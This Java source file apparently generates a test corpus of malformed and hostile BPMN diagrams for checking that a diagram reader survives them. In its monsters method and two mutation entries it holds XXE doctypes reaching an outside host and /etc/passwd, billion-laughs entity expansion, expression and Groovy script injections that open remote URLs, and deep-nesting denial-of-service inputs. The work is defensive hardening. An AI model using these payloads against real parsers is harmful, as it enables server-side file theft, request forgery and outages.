package vn.lienthong.design;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.UnaryOperator;
import java.util.regex.MatchResult;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import vn.lienthong.procedure.Procedure;

/**
 * Diagrams as they come from outside, some hundred, the same at every run: each procedure that ships, spoilt in one way at
 * a time; what other tools export; and what no tool would.
 */
final class Corpus {

    private static final Pattern ELEMENT = Pattern.compile(
            "<bpmn:(userTask|serviceTask|exclusiveGateway|endEvent|boundaryEvent|sequenceFlow|callActivity|startEvent)\\b"
                    + "[^>]*?(?:/>|>.*?</bpmn:\\1>)",
            Pattern.DOTALL);
    private static final Pattern ID = Pattern.compile(" id=\"([A-Za-z0-9_]+)\"");
    private static final Pattern REFERENCE = Pattern.compile(
            "(sourceRef|targetRef|attachedToRef|messageRef|errorRef|default|calledElement|processRef|bpmnElement)=\"[^\"]*\"");
    private static final Pattern ATTRIBUTE = Pattern.compile(" [a-zA-Z:]+=\"[^\"]*\"");
    private static final Pattern PROPERTY = Pattern.compile("<camunda:property [^>]*/>");
    private static final Pattern TYPE =
            Pattern.compile("(</?bpmn:)(userTask|serviceTask|exclusiveGateway|boundaryEvent)\\b");
    private static final Pattern CONDITION = Pattern.compile("\\$\\{[^}]*}");

    /** How often each way of spoiling is used on each procedure, at different places. */
    private static final int TIMES = 3;

    private final Random chance = new Random(63_2024);
    private final Map<String, Case> cases = new TreeMap<>();

    /** A diagram, and the procedure in whose folder it lies. */
    record Case(String name, Procedure procedure, byte[] bpmn) {

        @Override
        public String toString() {
            return name;
        }
    }

    private Corpus() {}

    /** @param outside an address that must never be asked for */
    static List<Case> of(List<Procedure> procedures, String outside) {
        var corpus = new Corpus();
        procedures.forEach(procedure -> corpus.mutations(procedure, outside));
        procedures.stream().limit(2).forEach(procedure -> corpus.encodings(procedure));
        corpus.foreign(procedures.get(0));
        corpus.monsters(procedures.get(0), outside);
        return List.copyOf(corpus.cases.values());
    }

    private void add(String name, Procedure procedure, byte[] bpmn) {
        String full = procedure.edition().key() + "/" + name;
        cases.put(full, new Case(full, procedure, bpmn));
    }

    private void add(String name, Procedure procedure, String bpmn) {
        add(name, procedure, bpmn.getBytes(StandardCharsets.UTF_8));
    }

    private static String diagram(Procedure procedure) {
        return new String(procedure.folder().file(procedure.folder().diagram()).orElseThrow(), StandardCharsets.UTF_8);
    }

    private void mutations(Procedure procedure, String outside) {
        String good = diagram(procedure);
        add("as-it-ships", procedure, good);
        Map<String, UnaryOperator<String>> ways = new TreeMap<>();
        ways.put("element-removed", bpmn -> replaced(bpmn, ELEMENT, found -> ""));
        ways.put("element-twice", bpmn -> replaced(bpmn, ELEMENT, found -> found.group() + found.group()));
        ways.put("element-renamed", bpmn -> replaced(bpmn, ID, found -> " id=\"Renamed_1\""));
        ways.put("id-with-odd-letters", bpmn -> replaced(bpmn, ID, found -> " id=\"Đổi tên “này” &amp; 💥\""));
        ways.put("reference-broken", bpmn -> replaced(bpmn, REFERENCE, found -> found.group(1) + "=\"Nowhere\""));
        ways.put("reference-empty", bpmn -> replaced(bpmn, REFERENCE, found -> found.group(1) + "=\"\""));
        ways.put("reference-to-itself", this::loopedBack);
        ways.put("attribute-dropped", bpmn -> replaced(bpmn, ATTRIBUTE, found -> ""));
        ways.put("attribute-twice", bpmn -> replaced(bpmn, ATTRIBUTE, found -> found.group() + found.group()));
        ways.put("property-dropped", bpmn -> replaced(bpmn, PROPERTY, found -> ""));
        ways.put(
                "property-of-nonsense",
                bpmn -> replaced(
                        bpmn,
                        PROPERTY,
                        found -> "<camunda:property name=\"budget\" value=\"99999999999 LIGHT_YEAR\"/>"));
        ways.put("type-swapped", this::typeSwapped);
        ways.put("condition-of-nonsense", bpmn -> replaced(bpmn, CONDITION, found -> "\\${((('x' == }"));
        ways.put(
                "condition-without-end",
                bpmn -> replaced(bpmn, CONDITION, found -> "\\${" + "(a ".repeat(4_000) + "}"));
        ways.put(
                "condition-with-power",
                bpmn -> replaced(
                        bpmn,
                        CONDITION,
                        found -> "\\${''.getClass().forName('java.net.URL').newInstance('" + outside
                                + "').openStream()}"));
        ways.put(
                "listener-of-its-own",
                bpmn -> bpmn.replaceFirst(
                        "<bpmn:extensionElements>",
                        "<bpmn:extensionElements><camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"groovy\">new URL('"
                                + outside + "').text</camunda:script></camunda:executionListener>"));
        ways.put("truncated", bpmn -> bpmn.substring(0, chance.nextInt(bpmn.length())));
        ways.put("letters-lost", this::lettersLost);
        ways.put("lines-shuffled", this::linesShuffled);
        ways.forEach((name, way) -> {
            for (int i = 1; i <= TIMES; i++) {
                add(name + "-" + i, procedure, way.apply(good));
            }
        });
    }

    private String replaced(String bpmn, Pattern what, java.util.function.Function<MatchResult, String> by) {
        List<MatchResult> found = what.matcher(bpmn).results().toList();
        if (found.isEmpty()) {
            return bpmn;
        }
        MatchResult one = found.get(chance.nextInt(found.size()));
        return bpmn.substring(0, one.start()) + by.apply(one).replace("\\$", "$") + bpmn.substring(one.end());
    }

    private String loopedBack(String bpmn) {
        Matcher flow =
                Pattern.compile("sourceRef=\"([^\"]*)\" targetRef=\"[^\"]*\"").matcher(bpmn);
        List<MatchResult> flows = flow.results().toList();
        MatchResult one = flows.get(chance.nextInt(flows.size()));
        return bpmn.substring(0, one.start())
                + "sourceRef=\"" + one.group(1) + "\" targetRef=\"" + one.group(1) + "\""
                + bpmn.substring(one.end());
    }

    private String typeSwapped(String bpmn) {
        List<String> types = List.of(
                "receiveTask", "manualTask", "complexGateway", "subProcess", "transaction", "endEvent", "dataObject");
        String type = types.get(chance.nextInt(types.size()));
        MatchResult one = TYPE.matcher(bpmn).results().toList().get(chance.nextInt(10));
        return bpmn.replaceAll("(</?bpmn:)" + one.group(2) + "\\b", "$1" + type);
    }

    private String lettersLost(String bpmn) {
        var text = new StringBuilder(bpmn);
        for (int i = 0; i < 30; i++) {
            text.deleteCharAt(chance.nextInt(text.length()));
        }
        return text.toString();
    }

    private String linesShuffled(String bpmn) {
        List<String> lines = new ArrayList<>(bpmn.lines().toList());
        for (int i = 0; i < 20; i++) {
            java.util.Collections.swap(lines, chance.nextInt(lines.size()), chance.nextInt(lines.size()));
        }
        return String.join("\n", lines);
    }

    private void encodings(Procedure procedure) {
        String good = diagram(procedure);
        add("utf-8-with-bom", procedure, "\uFEFF" + good);
        for (String name :
                List.of("UTF-16", "UTF-16LE", "UTF-16BE", "ISO-8859-1", "windows-1258", "UTF-32", "IBM037")) {
            Charset charset = Charset.forName(name);
            add(
                    "said-and-written-in-" + name,
                    procedure,
                    good.replace("UTF-8", name).getBytes(charset));
            add("written-in-" + name + "-but-said-otherwise", procedure, good.getBytes(charset));
        }
        add("said-in-no-encoding-at-all", procedure, good.replace("UTF-8", "VNI-8"));
        add("xml-1.1", procedure, good.replace("version=\"1.0\"", "version=\"1.1\""));
        add("xml-9.9", procedure, good.replace("version=\"1.0\"", "version=\"9.9\""));
        add(
                "prefix-of-another-tool",
                procedure,
                good.replace("bpmn:", "bpmn2:").replace("xmlns:bpmn=", "xmlns:bpmn2="));
        add("no-prefix", procedure, good.replace("bpmn:", "").replace("xmlns:bpmn=", "xmlns="));
        add("another-namespace", procedure, good.replace("20100524/MODEL", "20990101/MODEL"));
        add("no-namespace", procedure, good.replaceAll(" xmlns:\\w+=\"[^\"]*\"", ""));
    }

    /** The same small procedure as other tools write it: their names for things, their own data beside ours. */
    private void foreign(Procedure procedure) {
        Map<String, String> heads = new TreeMap<>();
        heads.put(
                "bpmn-io",
                "<bpmn:definitions xmlns:bpmn=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" xmlns:di=\"http://www.omg.org/spec/DD/20100524/DI\" id=\"Definitions_1kn\" targetNamespace=\"http://bpmn.io/schema/bpmn\" exporter=\"bpmn-js (https://demo.bpmn.io)\" exporterVersion=\"18.6.1\">");
        heads.put(
                "signavio",
                "<bpmn:definitions xmlns:bpmn=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" xmlns:signavio=\"http://www.signavio.com\" expressionLanguage=\"http://www.w3.org/1999/XPath\" typeLanguage=\"http://www.w3.org/2001/XMLSchema\" targetNamespace=\"http://www.signavio.com\" xsi:schemaLocation=\"http://www.omg.org/spec/BPMN/20100524/MODEL http://www.omg.org/spec/BPMN/2.0/20100501/BPMN20.xsd\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\">");
        heads.put(
                "flowable",
                "<bpmn:definitions xmlns:bpmn=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" xmlns:flowable=\"http://flowable.org/bpmn\" targetNamespace=\"http://www.flowable.org/processdef\">");
        heads.put(
                "activiti",
                "<bpmn:definitions xmlns:bpmn=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" xmlns:activiti=\"http://activiti.org/bpmn\" targetNamespace=\"http://www.activiti.org/test\">");
        heads.put(
                "jbpm",
                "<bpmn:definitions xmlns:bpmn=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" xmlns:drools=\"http://www.jboss.org/drools\" xmlns:bpsim=\"http://www.bpsim.org/schemas/1.0\" targetNamespace=\"http://www.omg.org/bpmn20\"><bpmn:itemDefinition id=\"_item\" structureRef=\"String\"/>");
        heads.put(
                "camunda-8",
                "<bpmn:definitions xmlns:bpmn=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" xmlns:zeebe=\"http://camunda.org/schema/zeebe/1.0\" xmlns:modeler=\"http://camunda.org/schema/modeler/1.0\" modeler:executionPlatform=\"Camunda Cloud\" targetNamespace=\"x\">");
        heads.put(
                "bizagi",
                "<bpmn:definitions xmlns:bpmn=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" xmlns:bizagi=\"http://www.bizagi.com/bpmn20\" targetNamespace=\"http://www.bizagi.com/definitions/_123\">");
        Map<String, String> tasks = new TreeMap<>(
                Map.of(
                        "bpmn-io", "<bpmn:task id=\"Activity_0x1\" name=\"Xử lý\"/>",
                        "signavio",
                                "<bpmn:userTask id=\"sid-7B5A\" implementation=\"webService\" name=\"Xử lý\"><bpmn:extensionElements><signavio:signavioMetaData metaKey=\"bgcolor\" metaValue=\"#ffffcc\"/></bpmn:extensionElements></bpmn:userTask>",
                        "flowable",
                                "<bpmn:userTask id=\"formTask1\" flowable:assignee=\"${initiator}\" flowable:formKey=\"f\"/>",
                        "activiti", "<bpmn:serviceTask id=\"servicetask1\" activiti:class=\"org.example.Delegate\"/>",
                        "jbpm",
                                "<bpmn:userTask id=\"_1C\"><bpmn:ioSpecification><bpmn:dataInput id=\"_1C_in\" drools:dtype=\"String\" itemSubjectRef=\"_item\"/><bpmn:inputSet/><bpmn:outputSet/></bpmn:ioSpecification><bpmn:potentialOwner><bpmn:resourceAssignmentExpression><bpmn:formalExpression>admin</bpmn:formalExpression></bpmn:resourceAssignmentExpression></bpmn:potentialOwner></bpmn:userTask>",
                        "camunda-8",
                                "<bpmn:userTask id=\"Activity_1\"><bpmn:extensionElements><zeebe:userTask/><zeebe:formDefinition formId=\"f\"/></bpmn:extensionElements></bpmn:userTask>",
                        "bizagi",
                                "<bpmn:manualTask id=\"Id_b9\"><bpmn:extensionElements><bizagi:BizagiExtensions><bizagi:BizagiProperties/></bizagi:BizagiExtensions></bpmn:extensionElements></bpmn:manualTask>"));
        List<String> bodies = List.of(
                "<bpmn:process id=\"Process_1\" isExecutable=\"false\"><bpmn:startEvent id=\"S\"/>%s<bpmn:endEvent id=\"E\"/></bpmn:process>",
                "<bpmn:collaboration id=\"C\"><bpmn:participant id=\"P1\" processRef=\"a\"/><bpmn:participant id=\"P2\"/><bpmn:messageFlow id=\"m\" sourceRef=\"S\" targetRef=\"P2\"/></bpmn:collaboration><bpmn:process id=\"a\"><bpmn:startEvent id=\"S\"><bpmn:signalEventDefinition/></bpmn:startEvent>%s</bpmn:process><bpmn:process id=\"b\"/>",
                "<bpmn:process id=\"x\"><bpmn:subProcess id=\"SP\" triggeredByEvent=\"true\">%s<bpmn:adHocSubProcess id=\"AH\"/></bpmn:subProcess><bpmn:dataStoreReference id=\"DS\"/><bpmn:textAnnotation id=\"T\"><bpmn:text>chú thích</bpmn:text></bpmn:textAnnotation></bpmn:process>",
                "%s");
        heads.forEach((tool, head) -> {
            for (int i = 0; i < bodies.size(); i++) {
                add(
                        tool + "-" + (i + 1),
                        procedure,
                        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + head
                                + bodies.get(i).formatted(tasks.get(tool)) + "</bpmn:definitions>");
            }
        });
    }

    /** What is sent to bring a reader down or to make it fetch something. */
    private void monsters(Procedure procedure, String outside) {
        String good = diagram(procedure);
        String body = good.substring(good.indexOf("<bpmn:definitions"));
        String[] doctypes = {
            "<!DOCTYPE x [<!ENTITY a \"ha\">" + laughs() + "]>",
            "<!DOCTYPE x [<!ENTITY a \"" + "a".repeat(100_000) + "\">]>",
            "<!DOCTYPE x SYSTEM \"" + outside + "/evil.dtd\">",
            "<!DOCTYPE x PUBLIC \"-//X\" \"" + outside + "/evil.dtd\">",
            "<!DOCTYPE x [<!ENTITY % p SYSTEM \"" + outside + "/p\"> %p;]>",
            "<!DOCTYPE x [<!ENTITY a SYSTEM \"" + outside + "/e\">]>",
            "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>",
            "<!DOCTYPE x [<!ATTLIST x y CDATA #IMPLIED>]>"
        };
        for (int i = 0; i < doctypes.length; i++) {
            add("doctype-" + i, procedure, doctypes[i] + body.replace("name=\"", "name=\"&a;"));
        }
        add(
                "schema-elsewhere",
                procedure,
                good.replaceFirst(
                        "<bpmn:definitions",
                        "<bpmn:definitions xsi:schemaLocation=\"http://www.omg.org/spec/BPMN/20100524/MODEL " + outside
                                + "/BPMN20.xsd\" xsi:noNamespaceSchemaLocation=\"" + outside + "/y.xsd\""));
        add(
                "stylesheet-elsewhere",
                procedure,
                "<?xml-stylesheet type=\"text/xsl\" href=\"" + outside + "/x.xsl\"?>" + body);
        add(
                "import-elsewhere",
                procedure,
                good.replaceFirst(
                        "<bpmn:collaboration",
                        "<bpmn:import importType=\"http://www.w3.org/2001/XMLSchema\" location=\"" + outside
                                + "/z.xsd\" namespace=\"z\"/><bpmn:collaboration"));
        add(
                "include-elsewhere",
                procedure,
                good.replaceFirst(
                        "<bpmn:collaboration",
                        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + outside
                                + "/w\"/><bpmn:collaboration"));
        String head = "<definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\"><process id=\""
                + procedure.edition().key() + "\" isExecutable=\"true\">";
        String tail = "</process></definitions>";
        add(
                "sub-processes-5000-deep",
                procedure,
                nested(head, 5_000, "<subProcess id=\"s%d\">", "</subProcess>", tail));
        add(
                "lanes-5000-deep",
                procedure,
                nested(
                        head,
                        5_000,
                        "<laneSet id=\"s%d\"><lane><childLaneSet>",
                        "</childLaneSet></lane></laneSet>",
                        tail));
        add("unknown-100000-deep", procedure, nested(head, 100_000, "<x y=\"%d\">", "</x>", tail));
        add("chain-of-900", procedure, head + chain(900) + tail);
        add("chain-of-50000", procedure, head + chain(50_000) + tail);
        add("everything-to-everything-40", procedure, head + mesh(40) + tail);
        add("everything-to-everything-400", procedure, head + mesh(400) + tail);
        add("diamonds-300", procedure, head + diamonds(300, "exclusiveGateway") + tail);
        add("parallel-diamonds-300", procedure, head + diamonds(300, "parallelGateway") + tail);
        add("inclusive-diamonds-300", procedure, head + diamonds(300, "inclusiveGateway") + tail);
        add(
                "calls-itself-300-times",
                procedure,
                head
                        + IntStream.range(0, 300)
                                .mapToObj(i -> "<callActivity id=\"CallActivity_%d\" calledElement=\"%s\"/>"
                                        .formatted(i, procedure.edition().key()))
                                .collect(Collectors.joining())
                        + tail);
        add(
                "name-of-a-megabyte",
                procedure,
                head + "<userTask id=\"UserTask_A\" name=\"" + "dài ".repeat(200_000) + "\"/>" + tail);
        add("id-of-a-megabyte", procedure, head + "<userTask id=\"" + "A".repeat(1_000_000) + "\"/>" + tail);
        add(
                "condition-of-a-megabyte",
                procedure,
                head
                        + "<sequenceFlow id=\"f\" sourceRef=\"a\" targetRef=\"b\"><conditionExpression>${"
                        + "a.".repeat(400_000)
                        + "a == ''}</conditionExpression></sequenceFlow>" + tail);
        add(
                "timer-of-nines",
                procedure,
                head
                        + "<intermediateCatchEvent id=\"t\"><timerEventDefinition><timeDuration>P" + "9".repeat(4_000)
                        + "D</timeDuration></timerEventDefinition></intermediateCatchEvent>" + tail);
        add(
                "attributes-20000",
                procedure,
                "<definitions "
                        + IntStream.range(0, 20_000)
                                .mapToObj(i -> "a" + i + "=\"\"")
                                .collect(Collectors.joining(" "))
                        + " xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\"/>");
        add("two-roots", procedure, body + body);
        add("nothing", procedure, "");
        add("blanks", procedure, "   \n\t ");
        add("only-a-declaration", procedure, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>");
        add("no-process", procedure, "<definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\"/>");
        add("empty-process", procedure, head + tail);
        add(
                "process-without-id",
                procedure,
                "<definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\"><process/></definitions>");
        add(
                "decision-table",
                procedure,
                "<definitions xmlns=\"https://www.omg.org/spec/DMN/20191111/MODEL/\"><decision id=\"d\"/></definitions>");
        add("json", procedure, "{\"bpmn\": true}");
        add("html", procedure, "<!doctype html><html><body><p>404</body></html>");
        add(
                "svg",
                procedure,
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"" + outside + "/i.png\"/></svg>");
        add("noise", procedure, noise());
        add("noughts", procedure, new byte[100_000]);
        add("zip", procedure, zip(good));
        add("comment-of-megabytes", procedure, "<!--" + " x".repeat(2_000_000) + "-->" + body);
        add("cdata-everywhere", procedure, good.replaceAll("(\\$\\{[^}]*})", "<![CDATA[$1]]>"));
    }

    private static String laughs() {
        var entities = new StringBuilder();
        for (char c = 'b'; c <= 'z'; c++) {
            entities.append("<!ENTITY ")
                    .append(c)
                    .append(" \"")
                    .append(("&" + (char) (c - 1) + ";").repeat(10))
                    .append("\">");
        }
        return entities.append("<!ENTITY a1 \"&z;\">").toString();
    }

    private static String nested(String head, int depth, String open, String close, String tail) {
        var text = new StringBuilder(head);
        for (int i = 0; i < depth; i++) {
            text.append(open.formatted(i));
        }
        return text.append(close.repeat(depth)).append(tail).toString();
    }

    private static String flow(int number, String from, String to) {
        return "<sequenceFlow id=\"Flow_%d\" sourceRef=\"%s\" targetRef=\"%s\"/>".formatted(number, from, to);
    }

    private static String chain(int length) {
        var text = new StringBuilder("<startEvent id=\"N0\"/>");
        for (int i = 1; i <= length; i++) {
            text.append("<userTask id=\"N").append(i).append("\"/>").append(flow(i, "N" + (i - 1), "N" + i));
        }
        return text.toString();
    }

    private static String mesh(int size) {
        var text = new StringBuilder("<startEvent id=\"N0\"/>");
        for (int i = 1; i < size; i++) {
            text.append("<exclusiveGateway id=\"N").append(i).append("\"/>");
        }
        for (int i = 0; i < size * size; i++) {
            text.append(flow(i, "N" + i / size, "N" + i % size));
        }
        return text.toString();
    }

    /** Twice as many ways with each: whoever counts ways one by one never ends. */
    private static String diamonds(int count, String gateway) {
        var text = new StringBuilder("<startEvent id=\"G0\"/>");
        for (int i = 1; i <= count; i++) {
            text.append("<%s id=\"G%d\"/>".formatted(gateway, i))
                    .append(flow(3 * i, "G" + (i - 1), "G" + i))
                    .append(flow(3 * i + 1, "G" + (i - 1), "G" + i));
        }
        return text.toString();
    }

    private byte[] noise() {
        byte[] bytes = new byte[200_000];
        chance.nextBytes(bytes);
        return bytes;
    }

    private static byte[] zip(String text) {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("diagram.bpmn"));
            zip.write(text.getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
